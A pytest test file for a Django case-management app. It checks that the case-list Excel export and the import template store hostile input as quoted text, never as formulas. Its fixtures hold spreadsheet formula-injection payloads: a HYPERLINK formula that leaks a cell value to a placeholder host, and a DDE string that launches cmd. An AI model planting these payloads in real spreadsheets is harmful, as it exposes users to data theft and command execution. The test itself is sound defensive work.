"""SPEC §11 through the real pages: the case-list export and the import template carry hostile
text as text, never as a formula."""

from __future__ import annotations

import io

from django.urls import reverse
from openpyxl import load_workbook

from cases.models import Case
from tests.factories import party

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"详情")'


def _book(response):
    assert response.status_code == 200, response.content[:300]
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return load_workbook(io.BytesIO(content))  # not read-only: data_type and style are real


def _no_formula(book) -> None:
    formulas = [
        (sheet.title, c.coordinate, c.value)
        for sheet in book
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    assert formulas == []


def _rows(sheet) -> dict[str, dict]:
    cells = list(sheet.iter_rows())
    header = [c.value for c in cells[0]]
    return {r[0].value: dict(zip(header, r, strict=True)) for r in cells[1:]}


def test_case_list_export_writes_hostile_cells_as_text(client, clerk, register):
    first = register(
        parties=[party("applicant", 1, name=HYPERLINK), party("respondent", 2, name="@SUM(1)")],
        summary="+cmd|' /C calc'!A0",
        requests="-1+1",
    )
    second = register(
        parties=[party("applicant", 3, name="\t=1"), party("respondent", 4)],
        summary="\r=1",
        requests="邻里-排水沟",
    )
    stored = Case.objects.get(pk=first.pk)
    assert stored.summary == "+cmd|' /C calc'!A0" and stored.parties.filter(name=HYPERLINK)
    client.force_login(clerk)
    book = _book(client.get(reverse("cases:export")))
    _no_formula(book)
    rows = _rows(book["案件"])
    one, two = rows[first.number], rows[second.number]
    expected = [
        (one, "申请人", HYPERLINK),
        (one, "被申请人", "@SUM(1)"),
        (one, "纠纷简要情况", "+cmd|' /C calc'!A0"),
        (one, "当事人请求", "-1+1"),
        (two, "申请人", "\t=1"),
        (two, "纠纷简要情况", "\r=1"),
    ]
    for row, header, text in expected:
        cell = row[header]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), header
    # Text that only contains such a character later, and numbers, are untouched.
    assert (two["当事人请求"].value, two["当事人请求"].quotePrefix) == ("邻里-排水沟", False)
    amount = one["涉及金额（元）"]
    assert (amount.value, amount.data_type) == (12000, "n")
    assert one["登记时间"].data_type == "d"


def test_import_template_has_no_formula(client, clerk):
    client.force_login(clerk)
    _no_formula(_book(client.get(reverse("cases:import-template"))))
